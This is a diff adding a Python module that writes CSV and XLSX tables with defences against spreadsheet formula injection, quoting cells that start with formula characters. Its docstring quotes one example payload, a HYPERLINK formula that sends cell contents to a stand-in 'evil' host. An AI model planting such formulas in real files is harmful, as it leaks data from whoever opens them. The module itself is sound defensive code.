@@ -1,0 +1,189 @@
+"""The one place where pofa writes table cells: CSV and XLSX without spreadsheet formulas.
+
+A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or
+carriage return) as a formula: a patient id ``=HYPERLINK("http://evil/?"&A1)`` copied verbatim into an output
+CSV would run when the file is opened in Excel. Every text cell pofa writes, headers included, goes through
+:func:`neutralise` (OWASP's "CSV injection" rule): a text cell starting with one of those characters, unless
+it is a number such as ``-1.5``, gets a leading single quote, which spreadsheets show as text. XLSX cells are
+written as values of an explicit type (text as text, numbers as numbers), never as formulas.
+
+>>> neutralise("=1+1")
+"'=1+1"
+>>> neutralise("-1.5")
+'-1.5'
+"""
+
+from __future__ import annotations
+
+import math
+import re
+from collections.abc import Iterable, Sequence
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pandas as pd
+
+__all__ = [
+    "FORMULA_PREFIXES",
+    "append_xlsx_row",
+    "csv_text",
+    "is_live_formula",
+    "neutralise",
+    "safe_frame",
+    "write_csv",
+    "xlsx_value",
+]
+
+#: First characters that make a spreadsheet read a cell as a formula (OWASP).
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+#: Text that a spreadsheet reads as a plain number (left as it is even though it may start with + or -).
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def is_live_formula(text: str) -> bool:
+    """Whether a spreadsheet would run ``text`` as a formula (it starts with a formula character and is not
+    a number).
+
+    Parameters
+    ----------
+    text : str
+        A cell as written.
+
+    Returns
+    -------
+    bool
+    """
+    return text.startswith(FORMULA_PREFIXES) and _NUMBER.fullmatch(text) is None
+
+
+def neutralise(text: str) -> str:
+    """``text`` made safe to open in a spreadsheet: a leading single quote when it would run as a formula.
+
+    Parameters
+    ----------
+    text : str
+        A text cell or header.
+
+    Returns
+    -------
+    str
+        ``"'" + text`` when :func:`is_live_formula`, else ``text`` unchanged.
+    """
+    return "'" + text if is_live_formula(text) else text
+
+
+def _neutralise_series(values: pd.Series) -> pd.Series:
+    if pd.api.types.is_bool_dtype(values) or pd.api.types.is_numeric_dtype(values) \
+            or pd.api.types.is_datetime64_any_dtype(values):
+        return values
+    if isinstance(values.dtype, pd.StringDtype):
+        text = values.astype(object)
+    elif values.dtype == object:
+        text = values
+    else:  # categorical and other extension types: written as their text
+        text = values.astype(object)
+
+    def fix(v: Any) -> Any:
+        return neutralise(v) if isinstance(v, str) else v
+
+    if not text.map(lambda v: isinstance(v, str) and is_live_formula(v)).any():
+        return values
+    return text.map(fix).astype(values.dtype if isinstance(values.dtype, pd.StringDtype) else object)
+
+
+def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``frame`` whose headers and text cells are neutralised (numbers, booleans and dates kept).
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+
+    Returns
+    -------
+    pandas.DataFrame
+    """
+    out = frame.copy()
+    for i in range(out.shape[1]):
+        out.isetitem(i, _neutralise_series(out.iloc[:, i]))
+    out.columns = pd.Index([neutralise(str(c)) for c in out.columns])
+    return out
+
+
+def write_csv(frame: pd.DataFrame, path: str | Path) -> None:
+    """Write ``frame`` as UTF-8 CSV with neutralised headers and cells.
+
+    Header first, blank = missing, yes/no as true/false, text quoted where needed (pyarrow's writer: about 6x
+    faster than ``DataFrame.to_csv``, which spends its time formatting floats).
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+    path : str or pathlib.Path
+        The file written (inside an output folder built by :func:`pofa.atomic.output_dir`).
+    """
+    import pyarrow as pa
+    import pyarrow.csv as pacsv
+
+    table = pa.Table.from_pandas(safe_frame(frame), preserve_index=False)
+    pacsv.write_csv(table, str(path), pacsv.WriteOptions(quoting_style="needed"))
+
+
+def csv_text(frame: pd.DataFrame) -> str:
+    """``frame`` as CSV text (pandas' formatting, ``\\n`` line ends) with neutralised headers and cells.
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+
+    Returns
+    -------
+    str
+    """
+    return str(safe_frame(frame).to_csv(index=False, lineterminator="\n"))
+
+
+def xlsx_value(v: Any) -> Any:
+    """One value as an XLSX cell holds it: text neutralised, numbers as numbers, missing as empty.
+
+    Parameters
+    ----------
+    v : Any
+        A cell value (text, number, boolean, numpy scalar, missing; anything else becomes its text).
+
+    Returns
+    -------
+    str, int, float, bool or None
+    """
+    if v is None or v is pd.NA or v is pd.NaT:
+        return None
+    if isinstance(v, np.generic):
+        v = v.item()
+    if isinstance(v, float) and not math.isfinite(v):
+        return None
+    if isinstance(v, bool | int | float):
+        return v
+    return neutralise(v if isinstance(v, str) else str(v))
+
+
+def append_xlsx_row(ws: Any, values: Iterable[Any]) -> Sequence[Any]:
+    """Append one row to an openpyxl worksheet, every cell a value of an explicit type, never a formula.
+
+    Parameters
+    ----------
+    ws : openpyxl.worksheet.worksheet.Worksheet
+    values : iterable
+        The row's values (converted by :func:`xlsx_value`).
+
+    Returns
+    -------
+    sequence of openpyxl cells
+        The cells written (e.g. to style a header row).
+    """
+    row = [xlsx_value(v) for v in values]
+    ws.append(row)
+    cells = ws[ws.max_row] if row else ()
+    for cell, v in zip(cells, row, strict=False):
+        if isinstance(v, str):
+            cell.data_type = "s"  # openpyxl would store text starting with "=" as a formula
+    return cells
